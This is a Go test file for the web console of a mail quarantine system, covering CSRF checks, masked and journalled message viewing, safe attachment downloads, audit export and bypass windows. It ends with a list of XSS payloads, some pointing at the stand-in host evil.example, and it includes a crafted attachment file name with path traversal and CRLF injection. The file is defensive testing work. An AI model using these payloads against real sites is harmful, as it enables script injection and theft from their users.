package web_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/sekisho-mail/sekisho/quarantine"
)

// postRoutes are all forms of the console with harmless and harmful values.
func postRoutes(hold string) map[string][]string {
	return map[string][]string{
		"/holds/preview": {"verb", "approve", "hold", hold}, "/holds/bulk": {"verb", "approve", "hold", hold + ".1"},
		"/views/save": {"name", "x", "query", "state=sent"}, "/views/drop": {"view", hold},
		"/holds/" + hold + "/decide": {"verb", "approve", "version", "1"}, "/holds/" + hold + "/open": nil,
		"/holds/" + hold + "/close": nil, "/holds/" + hold + "/file": {"part", "2"},
		"/holds/" + hold + "/headers": {"reason", "because of it"}, "/holds/" + hold + "/original": {"reason", "because of it"},
		"/holds/" + hold + "/hand-over": {"to", "privacy-office", "version", "1"},
		"/audit/verify":                 nil, "/audit/export": {"kind", "csv"}, "/system/bypass": {"minutes", "15", "reason", "because of it"}, "/system/resume": nil,
		"/account/settings": {"language", "en"}, "/account/password": {"password", password, "new", "another-good-password", "again", "another-good-password"},
		"/account/totp": {"do", "begin"}, "/account/sessions": {"session", "others"}, "/users": {"address", "new@example.co.jp"}, "/users/" + hold: {"do", "save"},
		"/rules/try": nil, "/logout": nil,
	}
}

// TestCSRFMatrix: without the session's own token, or from another site, nothing
// is done, whatever the browser says of itself.
func TestCSRFMatrix(t *testing.T) {
	s := newSite(t)
	id := string(s.plain(taro))
	b := s.login(admin)
	good, foreign := b.token(), s.login(taro).token()
	before := s.fingerprint()
	cells := 0
	for path, pairs := range postRoutes(id) {
		for _, origin := range []string{"", "self", "null", "https://evil.example", "http://127.0.0.1.evil.example"} {
			for _, site := range []string{"", "same-origin", "same-site", "cross-site", "none"} {
				for _, token := range []string{"", "0", foreign, good} {
					own := (site == "same-origin" || site == "none" || site == "" && (origin == "" || origin == "self"))
					if own && token == good {
						continue // that is the real one
					}
					cells++
					r := b.request(http.MethodPost, path, form(append([]string{"csrf", token}, pairs...)).Encode())
					if origin == "self" {
						r.Header.Set("Origin", s.server.URL)
					} else if origin != "" {
						r.Header.Set("Origin", origin)
					}
					if site != "" {
						r.Header.Set("Sec-Fetch-Site", site)
					}
					if a := b.do(r); a.status != http.StatusForbidden {
						t.Errorf("%s origin %q site %q token %.4q: %d", path, origin, site, token, a.status)
					}
				}
			}
		}
	}
	if after := s.fingerprint(); after != before {
		t.Errorf("something was changed:\n%s\n%s", before, after)
	}
	r := b.request(http.MethodPost, "/login", form([]string{"address", admin, "password", password}).Encode())
	r.Header.Set("Sec-Fetch-Site", "cross-site")
	if a := s.browser().do(r); a.status != http.StatusForbidden {
		t.Errorf("log-in from another site: %d", a.status)
	}
	t.Logf("%d cells", cells)
}

// TestNothingChangesByLooking crawls the console with full rights.
func TestNothingChangesByLooking(t *testing.T) {
	s := newSite(t)
	ids := s.samples()
	b := s.login(admin)
	before := s.fingerprint()
	todo, seen := append(allPages(string(ids[0])), "/"), map[string]bool{}
	for path := range postRoutes(string(ids[0])) {
		todo = append(todo, path)
	}
	todo = append(todo, "/holds/"+string(ids[0])+"/html", "/holds/"+string(ids[0])+"/decide?verb=approve&version=1", "/system/bypass?minutes=15&reason=because", "/logout")
	for len(todo) > 0 && len(seen) < 400 {
		path := todo[0]
		todo = todo[1:]
		if seen[path] {
			continue
		}
		seen[path] = true
		for _, method := range []string{http.MethodGet, http.MethodHead, http.MethodOptions} {
			a := b.do(b.request(method, path, ""))
			if a.status >= 500 {
				t.Errorf("%s %s: %d", method, path, a.status)
			}
			for _, link := range links(a.body) {
				if !seen[link] {
					todo = append(todo, link)
				}
			}
		}
	}
	if after := s.fingerprint(); after != before {
		t.Errorf("something was changed:\n%s\n%s", before, after)
	}
	if a := b.get("/holds"); a.status != http.StatusOK {
		t.Errorf("the session was ended by looking: %d", a.status)
	}
	t.Logf("%d addresses", len(seen))
}

// links are all addresses of ours in a page, the targets of forms too.
func links(page string) []string {
	var out []string
	for _, mark := range []string{`href="`, `action="`, `src="`} {
		for _, part := range strings.Split(page, mark)[1:] {
			link, _, _ := strings.Cut(part, `"`)
			link = strings.ReplaceAll(link, "&amp;", "&")
			if strings.HasPrefix(link, "/") && !strings.HasPrefix(link, "/static/") {
				out = append(out, link)
			}
		}
	}
	return out
}

func (s *site) events(verb quarantine.Verb) []quarantine.Event {
	s.t.Helper()
	list, _, err := s.store.SearchEvents(s.t.Context(), quarantine.EventQuery{Verb: verb})
	if err != nil {
		s.t.Fatal(err)
	}
	return list
}

// Every look at a body is in the journal before anything is shown.
func TestEveryLookIsJournalled(t *testing.T) {
	s := newSite(t)
	id := s.plain(taro)
	path := "/holds/" + string(id)
	b := s.login(manager)
	if page := b.get(path); strings.Contains(page.text(), "名簿です") {
		t.Error("the body is shown unasked")
	}
	if a := b.submit(path + "/open"); a.status != http.StatusSeeOther || len(s.events(quarantine.VerbView)) != 1 {
		t.Fatalf("open: %d", a.status)
	}
	page := b.get(path)
	if !strings.Contains(page.text(), "名簿です") || strings.Contains(page.body, "9876543210") || strings.Contains(page.body, "090-1234-0001") {
		t.Error("the text is not shown masked")
	}
	if a := b.get(path + "/html"); a.status != http.StatusForbidden {
		t.Errorf("HTML with a masked look: %d", a.status)
	}
	for _, reason := range []string{"", " x "} {
		if a := b.submit(path+"/open", "raw", "1", "reason", reason); a.status != http.StatusBadRequest {
			t.Errorf("unmask with reason %q: %d", reason, a.status)
		}
	}
	if a := b.submit(path+"/open", "raw", "1", "reason", "番号を確かめるため"); a.status != http.StatusSeeOther {
		t.Fatalf("unmask: %d %s", a.status, a.text())
	}
	if e := s.events(quarantine.VerbUnmask); len(e) != 1 || e[0].Reason != "番号を確かめるため" || e[0].Hold != id || e[0].By.Name != manager || e[0].By.Kind != quarantine.ActorApprover {
		t.Errorf("%+v", e)
	}
	if page := b.get(path); !strings.Contains(page.body, "9876543210") || !strings.Contains(page.body, "090-1234-0001") {
		t.Error("the text is not shown as it is")
	}
	s.clock.Add(11 * 60 * 1e9)
	if page := b.get(path); strings.Contains(page.body, "9876543210") || strings.Contains(page.text(), "名簿です") {
		t.Error("the look did not end")
	}
	if got := len(s.events(quarantine.VerbView)) + len(s.events(quarantine.VerbUnmask)); got != 2 {
		t.Errorf("%d events", got)
	}
}

func TestDownloads(t *testing.T) {
	s := newSite(t)
	raw := "From: " + taro + "\r\nTo: partner@other.example\r\nSubject: x\r\nMessage-ID: <p1@example.co.jp>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nMy Number 123456789018 個人番号\r\n" +
		"--b\r\nContent-Type: image/jpeg; name=\"x.jpg\"\r\nContent-Disposition: attachment; filename*=UTF-8''..%2F..%2F%E5%90%8D%E7%B0%BF%22%3Cb%3E%0d%0ax.html\r\n\r\n<html><script>alert(1)</script>\r\n" +
		"--b\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename=l.csv\r\n\r\n氏名,個人番号\r\n田中太郎,123456789018\r\n--b--\r\n"
	id := s.take(taro, []string{"partner@other.example"}, []byte(raw))
	if id == "" {
		t.Fatal("not held")
	}
	b := s.login(admin)
	for path, pairs := range map[string][]string{"/file": {"part", "2"}, "/original": {"reason", "to look at it"}} {
		a := b.submit("/holds/"+string(id)+path, pairs...)
		h := a.header
		if a.status != http.StatusOK || h.Get("Content-Type") != "application/octet-stream" || h.Get("X-Content-Type-Options") != "nosniff" ||
			!strings.HasPrefix(h.Get("Content-Disposition"), "attachment; ") || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s: %d %v %.200s", path, a.status, h, a.text())
		}
		if d := h.Get("Content-Disposition"); strings.ContainsAny(d, "<>\r\n/\\") {
			t.Errorf("%s: %s", path, d)
		}
		if path == "/original" && a.body != raw {
			t.Error("the original is not what was received")
		}
		if path == "/file" && !strings.HasPrefix(a.body, "<html><script>") {
			t.Errorf("the file is %q", a.body)
		}
	}
	if e := s.events(quarantine.VerbFetch); len(e) != 2 {
		t.Errorf("%d events", len(e))
	}
	a := b.submit("/holds/"+string(id)+"/headers", "reason", "to look at it")
	if a.status != http.StatusOK || !strings.Contains(a.text(), "Message-ID: &lt;p1@example.co.jp&gt;") || len(s.events(quarantine.VerbHeaders)) != 1 {
		t.Errorf("headers: %d %s", a.status, a.text())
	}
}

// When the event cannot be written, nothing is shown.
func TestNoEventNoLook(t *testing.T) {
	s := newSite(t, func(o *webOptions) { o.Ledger = deaf{o.Ledger} })
	id := s.plain(taro)
	b := s.login(admin)
	for path, pairs := range map[string][]string{
		"/open": nil, "/headers": {"reason", "to look at it"}, "/original": {"reason", "to look at it"}, "/file": {"part", "2"},
	} {
		a := b.submit("/holds/"+string(id)+path, pairs...)
		if a.status != http.StatusInternalServerError || strings.Contains(a.body, "090-1234") || strings.Contains(a.text(), "Message-ID") || strings.Contains(a.text(), "no room") {
			t.Errorf("%s: %d %.200s", path, a.status, a.text())
		}
	}
	if page := b.get("/holds/" + string(id)); strings.Contains(page.text(), "名簿です") {
		t.Error("the text is shown")
	}
}

func TestExport(t *testing.T) {
	s := newSite(t)
	s.plain(taro)
	b := s.login(admin)
	if _, err := s.keeper.Reject(t.Context(), quarantine.Order{Hold: s.plain(hanako), By: quarantine.Actor{Kind: quarantine.ActorApprover, Name: manager}, Reason: "=HYPERLINK(1)"}); err != nil {
		t.Fatal(err)
	}
	a := b.submit("/audit/export", "kind", "csv")
	if a.status != http.StatusOK || !strings.Contains(a.header.Get("Content-Disposition"), ".csv") || !strings.Contains(a.body, "'=HYPERLINK(1)") || strings.Count(a.body, "\n") < 5 {
		t.Errorf("%d %s", a.status, a.body)
	}
	a = b.submit("/audit/export?verb=reject", "kind", "jsonl")
	if a.status != http.StatusOK || strings.Count(a.body, "\n") != 1 || !strings.Contains(a.body, `"verb":"reject"`) {
		t.Errorf("%d %s", a.status, a.body)
	}
	if a := b.submit("/audit/verify"); !strings.Contains(a.text(), "改ざんはありません") {
		t.Error(a.text())
	}
	for _, query := range []string{"verb=reject", "by=" + manager, "since=2026-11-18", "hold=nonsense", "cursor=1.2", "cursor=x", "since=x"} {
		if a := b.get("/audit?" + query); a.status >= 500 {
			t.Errorf("%s: %d", query, a.status)
		}
	}
	if n := len(s.events(quarantine.VerbExport)); n != 2 {
		t.Errorf("%d exports are in the log", n)
	}
}

func TestBypassAndResume(t *testing.T) {
	s := newSite(t)
	b := s.login(admin)
	for _, bad := range []string{"0", "9999", "x"} {
		if a := b.submit("/system/bypass", "minutes", bad, "reason", "rules are wrong"); a.status != http.StatusBadRequest {
			t.Errorf("%s minutes: %d", bad, a.status)
		}
	}
	if a := b.submit("/system/bypass", "minutes", "30", "reason", "ルールの誤り"); a.status != http.StatusSeeOther {
		t.Fatalf("%d %s", a.status, a.text())
	}
	w, err := s.store.CurrentBypass(t.Context(), s.clock.Now())
	if err != nil || w.Reason != "ルールの誤り" || w.By.Name != admin {
		t.Fatalf("%+v, %v", w, err)
	}
	if page := b.get("/holds"); !strings.Contains(page.text(), "緊急通過中") {
		t.Error("no banner")
	}
	if a := b.submit("/system/bypass", "do", "close", "window", string(w.ID)); a.status != http.StatusSeeOther {
		t.Errorf("%d", a.status)
	}
	if _, err := s.store.CurrentBypass(t.Context(), s.clock.Now()); err == nil {
		t.Error("it is still open")
	}
	s.status.Paused = true
	if page := b.get("/system"); !strings.Contains(page.body, "/system/resume") {
		t.Error("no button")
	}
	if a := b.submit("/system/resume"); a.status != http.StatusSeeOther || s.resume != 1 {
		t.Errorf("%d, %d times", a.status, s.resume)
	}
}

// Payloads of people who put script where text belongs.
func payloads() []string {
	base := []string{
		`<script>window.hit=1</script>`, `"><script>window.hit=1</script>`, `'><img src=x onerror="window.hit=1">`, `<svg onload=window.hit=1>`,
		`<svg><script>window.hit=1</script></svg>`, `javascript:window.hit=1`, `{{.}}{{printf "%s" "x"}}`, `<iframe srcdoc="<script>parent.hit=1</script>">`,
		`<body onload=window.hit=1>`, `<a href="javascript:window.hit=1" autofocus onfocus=window.hit=1>x</a>`, `<style>@import "https://evil.example/x.css";</style>`,
		`<link rel=stylesheet href=https://evil.example/x.css>`, `<img src="https://evil.example/pixel.gif">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
		`<base href="https://evil.example/">`, `<form action="https://evil.example/"><input name=csrf>`, `</title><script>window.hit=1</script>`, `</textarea><script>window.hit=1</script>`,
		`--><script>window.hit=1</script>`, `]]><script>window.hit=1</script>`, `<math><mtext></table><img src=x onerror=window.hit=1>`, `<details open ontoggle=window.hit=1>`,
		`<video><source onerror="window.hit=1">`, `<object data="data:text/html,<script>parent.hit=1</script>">`, `<embed src="https://evil.example/x.swf">`,
		`<template><script>window.hit=1</script></template>`, `<noscript><p title="</noscript><img src=x onerror=window.hit=1>">`, "<scr\u0000ipt>window.hit=1</script>",
		`<img src=x onerror=&#119;indow.hit=1>`, `%3Cscript%3Ewindow.hit=1%3C/script%3E`, `\u003cscript\u003ewindow.hit=1\u003c/script\u003e`, `＜script＞window.hit=1＜/script＞`,
		`<input autofocus onfocus=window.hit=1>`, `<marquee onstart=window.hit=1>`, `<select autofocus onfocus=window.hit=1>`, `<x contenteditable onblur=window.hit=1>`,
		`<table background="javascript:window.hit=1">`, `<div style="background:url(https://evil.example/x)">`, `<script src=https://evil.example/x.js></script>`, "\u202e<script>window.hit=1</script>",
	}
	var out []string
	for i, p := range base {
		for n := range 8 {
			out = append(out, strings.ReplaceAll(p, "hit=1", fmt.Sprintf("hit='%d.%d'", i, n)))
		}
	}
	return out
}
